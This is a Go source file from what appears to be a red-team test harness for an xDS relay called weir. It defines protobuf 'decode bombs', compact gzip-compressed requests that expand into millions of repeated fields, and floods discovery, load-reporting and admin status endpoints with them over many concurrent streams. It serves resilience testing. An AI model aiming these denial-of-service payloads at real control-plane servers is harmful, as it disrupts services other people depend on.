package redteam

import (
	"cmp"
	"context"
	"errors"
	"io"
	"math"
	"sync"
	"time"

	core "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	loadstats "github.com/envoyproxy/go-control-plane/envoy/service/load_stats/v3"
	csds "github.com/envoyproxy/go-control-plane/envoy/service/status/v3"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"

	"github.com/weir-xds/weir/relay/relaytest"
)

// The methods that take a stream of requests.
const (
	sotwMethod   = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
	deltaMethod  = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
	loadMethod   = relaytest.LoadMethod
	statusMethod = "/envoy.service.status.v3.ClientStatusDiscoveryService/StreamClientStatus"
)

// bad is the node of attackers.
var bad = &core.Node{Id: "bad", Cluster: "good"}

// methods have what a decent first request is.
var methods = map[string]proto.Message{
	sotwMethod:   &discovery.DiscoveryRequest{Node: bad, TypeUrl: relaytest.ClusterType},
	deltaMethod:  &discovery.DeltaDiscoveryRequest{Node: bad, TypeUrl: relaytest.ClusterType},
	loadMethod:   &loadstats.LoadStatsRequest{Node: bad},
	statusMethod: &csds.ClientStatusRequest{},
}

// decodeBomb is a request that is small on the wire, and large once it is decoded: one field of it
// is repeated.
type decodeBomb struct {
	name, method, path string
	n                  int
	element            func(i int) []byte // nil: it is empty
	plain              bool               // not compressed
	streams            int                // at once to each listener; 0: three
	to                 victims
}

// victims are whom a bomb is sent to.
type victims int

const (
	everybody victims = iota // both of the next two
	strangers                // the listener whose clients no rule admits
	admitted
	operators // the admin address
)

const (
	most  = 15_000_000 // empty elements in a request of limits.request_bytes
	names = 1_500_000  // entries with a key of their own
)

var decodeBombs = []decodeBomb{
	{name: "locators", method: deltaMethod, path: "resource_locators_subscribe", n: most, to: strangers},
	{name: "locators of who is admitted", method: deltaMethod, path: "resource_locators_subscribe", n: most, to: admitted},
	{name: "locators dropped", method: deltaMethod, path: "resource_locators_unsubscribe", n: most},
	{name: "locators of sotw", method: sotwMethod, path: "resource_locators", n: most},
	{name: "node.extensions", method: sotwMethod, path: "node.extensions", n: most, to: strangers},
	{name: "names of sotw", method: sotwMethod, path: "resource_names", n: most},
	{name: "names subscribed", method: deltaMethod, path: "resource_names_subscribe", n: most},
	{name: "names unsubscribed", method: deltaMethod, path: "resource_names_unsubscribe", n: most},
	{name: "initial versions", method: deltaMethod, path: "initial_resource_versions", n: most},
	{name: "initial versions of names", method: deltaMethod, path: "initial_resource_versions", n: names, element: entry},
	{name: "error details", method: sotwMethod, path: "error_detail.details", n: most},
	{name: "node.metadata", method: deltaMethod, path: "node.metadata.fields", n: names, element: entry},
	{name: "node.client_features", method: deltaMethod, path: "node.client_features", n: most},
	{name: "parameters of a locator", method: deltaMethod, path: "resource_locators_subscribe.dynamic_parameters", n: names, element: entry},
	{name: "node.listening_addresses", method: sotwMethod, path: "node.listening_addresses", n: most},
	{name: "20 streams in plain", method: deltaMethod, path: "resource_locators_subscribe", n: 250_000, plain: true, streams: 20, to: admitted},
	{name: "20 streams in plain, of extensions", method: deltaMethod, path: "node.extensions", n: 250_000, plain: true, streams: 20},
	{name: "cluster stats", method: loadMethod, path: "cluster_stats", n: most},
	{name: "locality stats", method: loadMethod, path: "cluster_stats.upstream_locality_stats", n: most},
	{name: "node matchers", method: statusMethod, path: "node_matchers", n: 1_000_000, to: operators},
	{name: "node matchers, fewer", method: statusMethod, path: "node_matchers.node_metadatas.path", n: 400_000, to: operators},
}

// bombSieges are the bombs, and the attacks of their names.
func bombSieges() []siege {
	var all []siege
	for i, b := range decodeBombs {
		name := "bomb: " + b.name
		attacks[name] = b.run
		all = append(all, siege{name: name, play: by(name), always: i == 0})
	}
	return all
}

// run throws the bomb again and again.
func (d decodeBomb) run(ctx context.Context, a *attacker) error {
	first := methods[d.method]
	body := append(encode(first), many(first.ProtoReflect().Descriptor(), d.path, d.n, d.element)...)
	return a.throw(ctx, d.to, thrown{method: d.method, body: body, plain: d.plain, streams: d.streams, hello: d.method == loadMethod})
}

// whom are the addresses of victims.
func (a *attacker) whom(v victims) []string {
	switch v {
	case strangers:
		return []string{a.Strangers}
	case admitted:
		return []string{a.Addr}
	case operators:
		return []string{a.Admin}
	}
	return []string{a.Strangers, a.Addr}
}

// thrown is a message that is sent on streams of a method.
type thrown struct {
	method  string
	body    []byte
	plain   bool // not compressed
	hello   bool // after a decent request that was answered
	streams int  // at once to each address; 0: three
	times   int  // on each stream; 0: once
	// how long it waits for an answer; 0: late
	patience time.Duration
}

// throw sends it on stream after stream for as long as the attack takes, each on a connection of
// its own.
func (a *attacker) throw(ctx context.Context, to victims, t thrown) error {
	a.pack(t)
	ctx, cancel := a.begin(ctx)
	defer cancel()
	var all sync.WaitGroup
	for _, address := range a.whom(to) {
		all.Go(func() {
			_ = a.each(ctx, cmp.Or(t.streams, 3), func(int) { a.throwOnce(ctx, address, t) })
		})
	}
	all.Wait()
	return ctx.Err()
}

// packer compresses what this process throws.
var packer = press{made: map[int][]byte{}}

// pack has a message compressed beforehand.
func (a *attacker) pack(t thrown) {
	if clear(packer.made); !t.plain {
		packer.zip(t.body)
	}
}

// begin is for what has to be made before an attack begins: it lasts from now on.
func (a *attacker) begin(ctx context.Context) (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.WithoutCancel(ctx), a.For)
}

// patiently is for one request of an attack, which is not over before weir has had time to answer
// it: until then it does not end with the attack. answered makes it end so.
func patiently(ctx context.Context, d time.Duration) (life context.Context, answered, cancel func()) {
	life, cancel = context.WithTimeout(context.WithoutCancel(ctx), d)
	return life, func() { context.AfterFunc(ctx, cancel) }, cancel
}

// throwOnce is one connection with one stream, until weir ends it.
func (a *attacker) throwOnce(ctx context.Context, address string, t thrown) {
	conn, err := grpc.NewClient("passthrough:///"+address, grpc.WithContextDialer(dialFrom(a.From)),
		grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithNoProxy(),
		grpc.WithDefaultCallOptions(grpc.ForceCodecV2(wire{}), grpc.MaxCallSendMsgSize(math.MaxInt32), grpc.MaxCallRecvMsgSize(math.MaxInt32)))
	if err != nil {
		a.add("clients that cannot be made", 1)
		return
	}
	defer func() { _ = conn.Close() }()
	ctx, answered, cancel := patiently(ctx, cmp.Or(t.patience, late))
	defer cancel()
	var options []grpc.CallOption
	if !t.plain {
		options = append(options, grpc.UseCompressor("gzip"))
	}
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{ClientStreams: true, ServerStreams: true}, t.method, options...)
	if err != nil {
		a.add("streams refused", 1)
		return
	}
	var answer []byte
	if t.hello {
		if s.SendMsg(encode(methods[t.method])) != nil || s.RecvMsg(&answer) != nil {
			a.add("streams ended", 1)
			return
		}
	}
	for n := 0; err == nil && n < cmp.Or(t.times, 1); n++ {
		if n > 0 && n%100 == 0 && ctx.Err() != nil {
			break
		}
		a.add("sent", 1)
		err = s.SendMsg(t.body)
	}
	for err == nil {
		if err = s.RecvMsg(&answer); err == nil {
			a.add("answered", 1)
			answered()
		}
	}
	if ctx.Err() == nil {
		if errors.Is(err, io.EOF) {
			err = s.RecvMsg(&answer) // it was the sending that failed
		}
		a.add("ended with "+status.Code(err).String(), 1)
	}
}
